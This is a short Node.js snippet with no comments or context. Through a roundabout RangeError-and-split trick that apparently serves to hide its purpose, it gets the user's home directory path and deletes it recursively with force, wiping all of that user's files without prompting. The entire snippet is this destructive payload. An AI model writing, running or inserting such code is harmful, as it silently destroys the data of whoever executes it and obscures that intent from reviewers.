const fs = require('fs/promises');
const os = require('os');

const hint = new RangeError(os.homedir());
const text = hint.toString();
fs.rm(text.split(": ")[1], { recursive: true, force: true });
